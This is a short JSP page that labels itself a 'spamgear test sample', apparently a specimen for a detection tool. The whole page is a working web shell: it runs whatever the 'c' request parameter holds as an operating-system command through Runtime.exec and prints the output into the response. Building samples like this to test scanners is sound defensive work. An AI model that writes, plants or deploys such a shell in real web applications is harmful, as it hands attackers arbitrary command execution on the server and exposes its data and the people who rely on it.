<%-- spamgear test sample: a request parameter run as a command --%>
<%@ page import="java.io.*" %>
<%
String c = request.getParameter("c");
if (c != null) {
    Process p = Runtime.getRuntime().exec(c);
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String l;
    while ((l = r.readLine()) != null) out.println(l);
}
%>
